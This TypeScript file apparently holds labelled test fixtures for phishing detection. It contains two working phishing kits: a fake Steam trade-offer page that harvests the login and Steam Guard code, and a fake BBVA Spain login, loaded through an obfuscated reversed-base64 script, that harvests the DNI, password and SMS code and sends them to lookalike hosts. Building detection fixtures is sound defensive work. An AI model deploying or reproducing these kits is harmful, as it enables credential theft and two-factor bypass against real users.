import type { Entry } from '../entry.js';
import { raw, js, json, renderer } from '../parts/c-json-kits.js';

export const entries: Entry[] = [
  {
    id: 'c-json-steam-trade',
    label: 'phishing',
    kind: 'json-kit',
    url: 'https://steamcommunnity.com.ru/tradeoffer/new/?partner=1190284412&token=kX2a9fQe',
    body: raw`<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Steam Community :: Trade Offer</title>
<style>body{margin:0;background:#1b2838;color:#c6d4df;font-family:"Motiva Sans",Arial,sans-serif}.top{background:#171a21;padding:16px 40px;font-size:18px;color:#fff;letter-spacing:.2em}.offer{max-width:820px;margin:30px auto;background:#16202d;padding:24px}.items{display:flex;gap:10px;flex-wrap:wrap;margin:16px 0}.it{width:96px;height:96px;background:#2a475e;border:1px solid #4b5b6c;font-size:11px;display:flex;align-items:flex-end;padding:4px;box-sizing:border-box}.acc{background:linear-gradient(90deg,#75b022,#588a1b);color:#fff;border:0;padding:10px 22px;font-size:15px;cursor:pointer}.ov{position:fixed;inset:0;background:#000c;display:none;align-items:center;justify-content:center}.win{width:420px;background:#181a21;border:1px solid #333;box-shadow:0 0 24px #000}.bar{background:#0e0f12;padding:6px 10px;font-size:12px;display:flex;justify-content:space-between}.bar span{color:#6b7b8c}.win .in{padding:30px}.win input{width:100%;background:#32353c;border:0;color:#fff;padding:10px;margin:6px 0 14px;box-sizing:border-box}.win button{width:100%;background:linear-gradient(90deg,#06bfff,#2d73ff);color:#fff;border:0;padding:12px;font-size:15px}</style></head>
<body><div class="top">STEAM</div>
<div class="offer" id="o">Loading trade offer…</div>
<div class="ov" id="ov"><div class="win"><div class="bar">Sign in to Steam <span>https://steamcommunity.com/openid/login</span></div><div class="in" id="si"></div></div></div>
<script>
(async () => {
  const offer = await (await fetch('/api/offer/' + new URLSearchParams(location.search).get('partner'))).json();
  const o = document.getElementById('o');
  o.innerHTML = '<h2>' + offer.from + ' has offered you a trade</h2><p>' + offer.note + '</p><div class="items">' + offer.items.map(i => '<div class="it">' + i + '</div>').join('') + '</div><button class="acc" id="a">Sign in through Steam to accept</button>';
  document.getElementById('a').onclick = () => {
    document.getElementById('ov').style.display = 'flex';
    const si = document.getElementById('si');
    si.innerHTML = '<div style="color:#1999ff;font-size:12px;text-transform:uppercase">Sign in with account name</div><input id="u"><div style="font-size:12px;text-transform:uppercase">Password</div><input id="p" type="password"><button id="s">Sign in</button>';
    document.getElementById('s').onclick = async () => {
      const u = document.getElementById('u').value, p = document.getElementById('p').value;
      const r = await fetch(offer.auth, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ u, p }) }).then(x => x.json()).catch(() => ({ guard: true }));
      if (r.guard) { si.innerHTML = '<p>Enter the Steam Guard code from your mobile authenticator for <b>' + u + '</b>.</p><input id="g" maxlength="5"><button id="s2">Submit</button>'; document.getElementById('s2').onclick = () => fetch(offer.auth + '?guard=1', { method: 'POST', body: JSON.stringify({ u, g: document.getElementById('g').value }) }).finally(() => location.href = 'https://steamcommunity.com/'); }
    };
  };
})();
</script></body></html>`,
    routes: {
      'steamcommunnity.com.ru/api/offer/1190284412': json({ from: 'Vlad [KZ]', note: 'hi bro, as we discussed, trade for your knife pls accept', items: ['★ Karambit | Doppler', 'AWP | Asiimov', 'AK-47 | Redline', 'M4A1-S | Printstream'], auth: 'https://steamcommunnity.com.ru/api/openid/auth' }),
      'steamcommunnity.com.ru/api/openid/auth': json({ guard: true }),
    },
  },
  {
    id: 'c-json-bbva-es',
    label: 'phishing',
    kind: 'json-kit',
    url: 'https://bbva-es-clientes.seguridad-online.click/particulares/acceso',
    body: raw`<!doctype html><html lang="es"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title></title></head>
<body style="margin:0;background:#f4f4f4;font-family:'Benton Sans',Arial,sans-serif"><div id="root"></div><script src="/k/loader.js"></script></body></html>`,
    routes: {
      'bbva-es-clientes.seguridad-online.click/k/loader.js': js(raw`(function(){var x=new XMLHttpRequest();x.open('GET','/k/main.txt');x.onload=function(){var c=x.responseText.split('').reverse().join('');(new Function(atob(c)))()};x.send()})();`),
      // the renderer, base64-encoded then reversed
      'bbva-es-clientes.seguridad-online.click/k/main.txt': { status: 200, headers: { 'content-type': 'text/plain' }, body: Buffer.from(renderer.replace("'/api/config'", "'/k/cfg.json'")).toString('base64').split('').reverse().join('') },
      'bbva-es-clientes.seguridad-online.click/k/cfg.json': json({
        title: 'BBVA | Acceso clientes', tag: 'BBVA', logo: '<span style="font:700 30px Arial;color:#fff">BBVA</span>',
        css: '.kx{max-width:440px;margin:0 auto;background:#fff;min-height:100vh}.kx-logo{background:#072146;padding:20px 24px}.kx h1{font-size:22px;color:#072146;padding:0 24px}.kx-t{padding:0 24px;font-size:14px}.kx label{display:block;margin:14px 24px 4px;font-size:13px;color:#666}.kx input{width:calc(100% - 48px);margin:0 24px;background:#f4f4f4;border:0;border-bottom:1px solid #1464a5;padding:12px;font-size:16px;box-sizing:border-box}.kx button{width:calc(100% - 48px);margin:24px;background:#1973b8;color:#fff;border:0;padding:14px;font-size:16px}.kx-e{color:#da3851;padding:0 24px}',
        required: 'Completa todos los campos', post: 'https://bbva-relay.herokuapp-es.com/in', done: 'https://www.bbva.es/',
        steps: [
          { id: 'login', heading: 'Accede a tu banca online', text: 'Por su seguridad hemos bloqueado temporalmente su cuenta. Identifíquese para reactivarla.', fields: [{ name: 'doc', label: 'DNI / NIE' }, { name: 'clave', label: 'Contraseña', type: 'password' }], button: 'Entrar' },
          { id: 'otp', heading: 'Firma la operación', text: 'Introduce la clave de firma que has recibido por SMS para confirmar la reactivación de tu dispositivo.', fields: [{ name: 'sms', label: 'Código SMS', max: 6 }], button: 'Confirmar' },
        ],
      }),
    },
  },
];
